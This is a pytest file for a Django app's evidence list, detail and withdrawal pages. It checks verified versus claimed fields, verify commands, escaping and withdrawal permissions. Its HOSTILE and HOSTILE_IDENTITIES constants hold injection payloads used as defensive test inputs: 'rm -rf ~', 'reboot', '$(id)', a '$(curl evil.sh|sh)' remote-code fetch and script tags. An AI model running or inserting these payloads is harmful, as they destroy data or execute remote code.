"""The evidence pages: the list, one piece of evidence (what was verified, what is only
claimed, the verify commands) and its withdrawal, with the permission checked for htmx
partials too."""

from __future__ import annotations

import html
import re
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from evidence_app.models import Evidence, Role
from evidence_app.verification.commands import keyless_commands
from recipes_app.models import Recipe
from tests.evidence_factories import GITHUB_ISSUER, EvidenceFactory, SignerFactory
from tests.factories import CatalogFactory, RecipeFactory

pytestmark = pytest.mark.django_db

HOSTILE = '<script>alert("x")</script>\'"; rm -rf ~ $(id) `id` &amp;'
LONG = "B" * 4096
HOSTILE_IDENTITIES = [
    "x'; rm -rf ~; echo '",
    "https://github.com/o/r/.github/workflows/a.yml@refs/heads/$(curl evil.sh|sh)",
    "`id` \"double\" 'single' \\ back </code><script>alert(1)</script>",
    "line one\nline two; reboot",
]
CLAIMS = {
    "source_repository_uri": "https://github.com/acme/gpu-lab",
    "source_repository_ref": "refs/heads/main",
    "source_repository_digest": "0123456789abcdef0123456789abcdef01234567",
    "build_config_uri": "https://github.com/acme/gpu-lab/.github/workflows/evidence.yaml@refs/heads/main",
    "run_invocation_uri": "https://github.com/acme/gpu-lab/actions/runs/42/attempts/1",
    "runner_environment": "github-hosted",
}


@pytest.fixture
def recipe() -> Recipe:
    return RecipeFactory(catalog=CatalogFactory())


def detail_url(evidence: Evidence) -> str:
    return reverse("evidence:detail", args=[evidence.pk])


def withdraw_url(evidence: Evidence) -> str:
    return reverse("evidence:withdraw", args=[evidence.pk])


def user_in(django_user_model: Any, username: str, *roles: str) -> Any:
    user = django_user_model.objects.create_user(username=username, password="pw-for-tests-1")
    for role in roles:
        user.groups.add(Group.objects.get_or_create(name=role)[0])
    return user


def logged_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def full_evidence(recipe: Recipe, **kw: Any) -> Evidence:
    kw.setdefault(
        "certificate",
        {"mode": "keyless", "identity": "x", "issuer": GITHUB_ISSUER, "claims": CLAIMS},
    )
    kw.setdefault("rekor_log_index", 84213709)
    kw.setdefault("integrated_time", datetime(2026, 6, 20, 3, 14, 7, tzinfo=UTC))
    kw.setdefault(
        "check_results",
        {
            "deployment": {
                "operator-health": {"status": "passed", "duration_ms": 1200},
                "undeclared-thing": {"status": "failed", "message": "pods not ready"},
            },
            "performance": {
                "nccl-all-reduce-bw": {
                    "status": "passed",
                    "metrics": [{"label": "Bus bandwidth", "value": 412.5, "unit": "GB/s"}],
                }
            },
        },
    )
    kw.setdefault(
        "transcript",
        [
            {"step": "parse", "ok": True, "detail": "Sigstore bundle v0.3, DSSE, certificate"},
            {"step": "signature", "ok": True, "detail": "verified against the production root"},
            {"step": "statement", "ok": True, "detail": "AICR recipe evidence v1"},
            {"step": "manifest", "ok": True, "detail": "6 files match manifest.json"},
            {"step": "bind", "ok": True, "detail": "recipe of the current catalog"},
            {"step": "classify", "ok": True, "detail": "community (allowlisted)"},
        ],
    )
    return EvidenceFactory(recipe=recipe, **kw)


# --- one piece of evidence ------------------------------------------------------------------


def test_it_shows_what_was_verified_and_how(client: Client, recipe: Recipe) -> None:
    evidence = full_evidence(recipe)

    response = client.get(detail_url(evidence))

    assert response.status_code == 200
    page = response.content.decode()
    assert '<span class="verdict verdict--verified">Verified</span>' in page
    steps = re.findall(
        r'transcript__step--(ok|failed)">\s*<span class="transcript__mark" aria-hidden="true">'
        r"(.)</span>\s*<strong>([a-z]+)</strong>",
        page,
    )
    # The same step table as `manage.py verify_evidence`: the steps, then the phases recorded.
    assert [(ok, mark, step) for ok, mark, step in steps] == [
        ("ok", "✓", s)
        for s in ("parse", "signature", "statement", "manifest", "bind", "classify", "phases")
    ]
    assert "every phase recorded no failure" in page
    assert "6 files match manifest.json" in page
    # Certificate claims: identity, issuer, repository, ref, commit, workflow.
    assert html.escape(evidence.signer.identity) in page
    assert GITHUB_ISSUER in page
    for value in CLAIMS.values():
        assert html.escape(value) in page
    assert (
        '<a href="https://github.com/acme/gpu-lab/actions/runs/42/attempts/1" rel="nofollow' in page
    )
    assert "<code>84213709</code>" in page
    assert "2026-06-20 03:14:07 UTC" in page
    assert f'href="/api/v1/evidence/{evidence.pk}/bundle"' in page
    assert evidence.sha256 in page


def test_it_separates_verified_fields_from_claimed_ones(client: Client, recipe: Recipe) -> None:
    evidence = full_evidence(recipe)

    page = client.get(detail_url(evidence)).content.decode()

    verified = page[page.index("provenance--verified") : page.index("provenance--claimed")]
    claimed = page[page.index("provenance--claimed") :]
    claimed = claimed[: claimed.index("</dl>")]
    for field in ("Bundle sha256", "Signer identity", "OIDC issuer", "Rekor log index", "Recipe"):
        assert field in verified
    assert "Files and CTRF reports" in verified
    for field in ("Attested at", "AICR version", "Kubernetes version", "Fingerprint"):
        assert field in claimed
        assert field not in verified


def test_it_compares_the_fingerprint_with_the_recipe_per_dimension(
    client: Client, recipe: Recipe
) -> None:
    evidence = full_evidence(recipe)

    page = client.get(detail_url(evidence)).content.decode()

    rows = re.findall(
        r'<th scope="row">([a-z]+)</th>\s*<td class="wrap">([^<]*)</td>\s*'
        r'<td class="wrap">([^<]*)</td>\s*<td><span class="match match--[a-z-]+">([^<]*)</span>'
        r'</td>\s*<td><span class="match match--[a-z-]*">([^<]*)</span>',
        page,
    )
    by_dim = {row[0]: row[1:] for row in rows}
    assert set(by_dim) == {"service", "accelerator", "os", "intent", "platform", "nodes"}
    # The example statement's fingerprint says ubuntu for os; the recipe requires ubuntu.
    assert by_dim["os"] == ("ubuntu", "ubuntu", "matched", "matched")
    assert by_dim["service"] == ("eks", "—", "unknown", "unknown")
    assert by_dim["platform"][0] == "any"
    assert by_dim["platform"][3] == "matched"


def test_it_shows_per_phase_results_against_the_recipe_thresholds(
    client: Client, recipe: Recipe
) -> None:
    evidence = full_evidence(recipe)

    page = client.get(detail_url(evidence)).content.decode()

    phases = page[page.index('id="phases-h"') :]
    assert "<code>operator-health</code>" in phases
    assert "1200 ms" in phases
    assert '<code>undeclared-thing</code> <span class="badge"' in phases
    assert "pods not ready" in phases
    assert "nccl-all-reduce-bw</span> <strong>&gt;= 300</strong>" in phases
    assert "412.5 GB/s" in phases
    assert '<span class="meets meets--yes">meets</span>' in phases
    assert "(predicate summary, claimed)" in phases

    slow = full_evidence(
        recipe,
        check_results={
            "performance": {
                "nccl-all-reduce-bw": {
                    "status": "failed",
                    "metrics": [{"label": "Bus bandwidth", "value": 120, "unit": "GB/s"}],
                }
            }
        },
    )
    slow_page = client.get(detail_url(slow)).content.decode()
    assert '<span class="meets meets--no">below threshold</span>' in slow_page


def test_it_says_when_evidence_has_no_per_check_results(client: Client, recipe: Recipe) -> None:
    evidence = full_evidence(recipe, check_results={})

    page = client.get(detail_url(evidence)).content.decode()

    assert "No per-check results: this evidence carries the predicate's phase summary" in page


def test_it_labels_demo_simulated_withdrawn_and_stale_evidence(
    client: Client, recipe: Recipe
) -> None:
    evidence = full_evidence(
        recipe,
        is_demo=True,
        is_simulated=True,
        attested_at=timezone.now() - timedelta(days=40),
        withdrawn_at=timezone.now(),
        withdrawal_reason="the cluster was misconfigured",
    )

    page = client.get(detail_url(evidence)).content.decode()

    for label in (">DEMO</span>", ">SIMULATED</span>", ">WITHDRAWN</span>"):
        assert label in page
    assert "<strong>Withdrawn</strong>" in page
    assert "the cluster was misconfigured" in page
    assert "<strong>Stale.</strong>" in page
    assert "<code>older-than-30-days</code>" in page
    assert "<code>withdrawn</code>" in page
    assert "<strong>Simulated.</strong>" in page
    assert "<strong>Demo evidence.</strong>" in page
    assert "Signed with a demo key" in page
    assert "seed_demo" not in page  # an upload signed with a demo key was not seeded


def test_it_never_shows_a_simulated_record_of_a_counted_signer_as_counting(
    client: Client, recipe: Recipe
) -> None:
    counted = full_evidence(recipe)
    simulated = full_evidence(recipe, is_simulated=True)
    assert counted.signer.counted
    assert simulated.signer.counted

    counted_page = client.get(detail_url(counted)).content.decode()
    simulated_page = client.get(detail_url(simulated)).content.decode()

    assert "✓ counts" in counted_page
    assert "✓ counts" not in simulated_page
    assert ">not counted</span>" in simulated_page
    # The signer's class reads as the signer's, never as this record's standing.
    assert ">counted signer</span>" in simulated_page
    assert ">counted</span>" not in simulated_page


def commands_in(page: str) -> list[str]:
    return [
        html.unescape(text)
        for text in re.findall(r'<code id="verify-command-\d+">(.*?)</code>', page, re.S)
    ]


@pytest.mark.parametrize("identity", HOSTILE_IDENTITIES)
def test_it_builds_verify_commands_that_keep_a_hostile_identity_quoted(
    client: Client, recipe: Recipe, identity: str
) -> None:
    signer = SignerFactory(identity=identity)
    evidence = full_evidence(recipe, signer=signer)  # no stored commands: rebuilt

    page = client.get(detail_url(evidence)).content.decode()

    assert "<script>alert(1)</script>" not in page
    commands = commands_in(page)
    assert [c.split()[0] for c in commands] == ["aicr", "cosign", "python"]
    assert page.count('data-copy="#verify-command-') == 3
    for command in commands:
        argv = shlex.split(command)
        flag = {"aicr": None, "cosign": "--certificate-identity", "python": "--cert-identity"}[
            argv[0]
        ]
        if flag is None:
            continue
        assert argv[argv.index(flag) + 1] == identity  # one argument, byte for byte
        assert "rm" not in argv
        assert "reboot" not in argv


def test_it_shows_the_commands_stored_at_ingest(client: Client, recipe: Recipe) -> None:
    identity = HOSTILE_IDENTITIES[0]
    stored = keyless_commands(
        identity=identity,
        issuer=GITHUB_ISSUER,
        predicate_type="https://aicr.run/recipe-evidence/v1",
        bundle_file="summary-bundle/attestation.intoto.jsonl",
    )
    evidence = full_evidence(
        recipe,
        verify_commands=[{"tool": c.tool, "text": c.text, "note": c.note} for c in stored],
    )

    page = client.get(detail_url(evidence)).content.decode()

    assert commands_in(page) == [c.text for c in stored]
    cosign = shlex.split(commands_in(page)[1])
    assert cosign[cosign.index("--certificate-identity") + 1] == identity


def test_it_escapes_hostile_strings_on_the_evidence_page(client: Client, recipe: Recipe) -> None:
    predicate = EvidenceFactory.build(recipe=recipe).predicate
    predicate["fingerprint"]["region"] = {"value": HOSTILE + LONG}
    predicate["criteriaMatch"]["perDimension"][0]["fingerprintProvides"] = HOSTILE
    signer = SignerFactory(label=HOSTILE[:200], identity=HOSTILE + LONG[:3000])
    evidence = full_evidence(
        recipe,
        signer=signer,
        predicate=predicate,
        aicr_version=HOSTILE[:100],
        k8s_version=HOSTILE[:100],
        certificate={"claims": {"source_repository_ref": HOSTILE, "build_trigger": LONG}},
        check_results={"deployment": {HOSTILE: {"status": "failed", "message": HOSTILE}}},
        transcript=[{"step": "parse", "ok": True, "detail": HOSTILE}],
        withdrawn_at=timezone.now(),
        withdrawal_reason=HOSTILE,
    )

    response = client.get(detail_url(evidence))

    page = response.content.decode()
    assert response.status_code == 200
    assert "<script>alert" not in page
    assert page.count("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;") >= 8


# --- withdrawal -----------------------------------------------------------------------------


def test_anonymous_visitors_cannot_withdraw(client: Client, recipe: Recipe) -> None:
    evidence = full_evidence(recipe)

    page = client.get(detail_url(evidence)).content.decode()
    form = client.get(withdraw_url(evidence))
    post = client.post(withdraw_url(evidence), {"reason": "because"})
    htmx_post = client.post(
        withdraw_url(evidence), {"reason": "because"}, headers={"HX-Request": "true"}
    )

    assert "Withdraw this evidence" not in page
    assert form.status_code == post.status_code == 302
    assert form["Location"].startswith(reverse("login"))
    assert htmx_post.status_code == 403
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is None


def test_a_contributor_cannot_withdraw_someone_elses_evidence(
    django_user_model: Any, recipe: Recipe
) -> None:
    owner = user_in(django_user_model, "owner", Role.CONTRIBUTOR)
    other = logged_in(user_in(django_user_model, "other", Role.CONTRIBUTOR))
    evidence = full_evidence(recipe, uploaded_by=owner)

    page = other.get(detail_url(evidence)).content.decode()
    form = other.get(withdraw_url(evidence))
    post = other.post(withdraw_url(evidence), {"reason": "mine now"})
    htmx_post = other.post(
        withdraw_url(evidence), {"reason": "mine now"}, headers={"HX-Request": "true"}
    )

    assert "Withdraw this evidence" not in page
    assert form.status_code == post.status_code == htmx_post.status_code == 403
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is None


def test_a_user_without_a_role_cannot_withdraw_even_their_upload(
    django_user_model: Any, recipe: Recipe
) -> None:
    user = user_in(django_user_model, "former")
    evidence = full_evidence(recipe, uploaded_by=user)

    response = logged_in(user).post(withdraw_url(evidence), {"reason": "x"})

    assert response.status_code == 403


def test_the_uploader_withdraws_with_a_reason(django_user_model: Any, recipe: Recipe) -> None:
    owner = user_in(django_user_model, "owner", Role.CONTRIBUTOR)
    client = logged_in(owner)
    evidence = full_evidence(recipe, uploaded_by=owner)

    page = client.get(detail_url(evidence)).content.decode()
    empty = client.post(withdraw_url(evidence), {"reason": "   "})
    done = client.post(withdraw_url(evidence), {"reason": f"wrong cluster {HOSTILE}"})

    assert "Withdraw this evidence" in page
    assert 'name="csrfmiddlewaretoken"' in page.split('<section id="withdrawal"')[1]
    assert empty.status_code == 400
    assert "This field is required." in empty.content.decode()
    assert done.status_code == 302
    assert done["Location"] == detail_url(evidence)
    evidence.refresh_from_db()
    assert evidence.withdrawn_by == owner
    assert evidence.withdrawal_reason.startswith("wrong cluster <script>")
    after = client.get(detail_url(evidence)).content.decode()
    assert "Withdraw this evidence" not in after
    assert "wrong cluster &lt;script&gt;" in after
    again = client.post(withdraw_url(evidence), {"reason": "twice"})
    assert again.status_code == 403


def test_a_maintainer_withdraws_any_evidence(django_user_model: Any, recipe: Recipe) -> None:
    client = logged_in(user_in(django_user_model, "maint", Role.MAINTAINER))
    evidence = full_evidence(recipe)

    page = client.get(detail_url(evidence)).content.decode()
    response = client.post(withdraw_url(evidence), {"reason": "superseded"})

    assert f'<form method="post" action="{withdraw_url(evidence)}" class="withdraw-form">' in page
    assert "hx-post" not in page  # a plain post, then the page again (post/redirect/get)
    assert response.status_code == 302
    assert response["Location"] == detail_url(evidence)
    evidence.refresh_from_db()
    assert evidence.withdrawal_reason == "superseded"


def test_superusers_may_withdraw_but_staff_alone_grants_nothing(
    admin_client: Client, django_user_model: Any, recipe: Recipe
) -> None:
    evidence = full_evidence(recipe)
    staff = django_user_model.objects.create_user(
        username="staffer", password="pw-for-tests-1", is_staff=True
    )
    client = logged_in(staff)

    assert "Withdraw this evidence" in admin_client.get(detail_url(evidence)).content.decode()
    assert "Withdraw this evidence" not in client.get(detail_url(evidence)).content.decode()
    assert client.post(withdraw_url(evidence), {"reason": "staff"}).status_code == 403
    assert client.get(withdraw_url(evidence)).status_code == 403
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is None


def test_withdrawing_needs_the_csrf_token(django_user_model: Any, recipe: Recipe) -> None:
    owner = user_in(django_user_model, "owner", Role.CONTRIBUTOR)
    client = Client(enforce_csrf_checks=True)
    client.force_login(owner)
    evidence = full_evidence(recipe, uploaded_by=owner)

    response = client.post(withdraw_url(evidence), {"reason": "no token"})

    assert response.status_code == 403
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is None


# --- the list -------------------------------------------------------------------------------


def test_it_lists_evidence_newest_first_with_labels(client: Client, recipe: Recipe) -> None:
    now = timezone.now()
    old = full_evidence(recipe, attested_at=now - timedelta(days=60), is_demo=True)
    new = full_evidence(recipe, attested_at=now, is_simulated=True)
    other = full_evidence(
        RecipeFactory(catalog=recipe.catalog), attested_at=now - timedelta(days=1)
    )

    everything = client.get(reverse("evidence:list")).content.decode()
    one_recipe = client.get(reverse("evidence:list"), {"recipe": recipe.name}).content.decode()
    one_signer = client.get(reverse("evidence:list"), {"signer": old.signer.slug}).content.decode()

    links = re.findall(r'<a href="/evidence/(\d+)/" class="struck">', everything)
    assert links == [str(new.pk), str(other.pk), str(old.pk)]
    assert ">DEMO</span>" in everything
    assert ">SIMULATED</span>" in everything
    assert "stale: older-than-30-days" in everything
    assert re.findall(r'<a href="/evidence/(\d+)/"', one_recipe) == [str(new.pk), str(old.pk)]
    assert re.findall(r'<a href="/evidence/(\d+)/"', one_signer) == [str(old.pk)]


def test_it_paginates_the_list_with_htmx(client: Client, recipe: Recipe) -> None:
    signer = SignerFactory()
    for day in range(30):
        full_evidence(recipe, signer=signer, attested_at=timezone.now() - timedelta(days=day))

    first = client.get(reverse("evidence:list"), {"recipe": recipe.name}).content.decode()
    second = client.get(
        reverse("evidence:list"),
        {"recipe": recipe.name, "page": 2},
        headers={"HX-Request": "true", "HX-Target": "evidence-results"},
    )

    assert len(re.findall(r'<a href="/evidence/\d+/" class="struck">', first)) == 25
    assert f"recipe={recipe.name}&amp;page=2" in first
    body = second.content.decode()
    assert body.lstrip().startswith('<section id="evidence-results"')
    assert len(re.findall(r'<a href="/evidence/\d+/" class="struck">', body)) == 5


def test_it_answers_unknown_evidence_with_404(client: Client) -> None:
    assert client.get("/evidence/999999/").status_code == 404
    assert client.get("/signers/nope/").status_code == 404
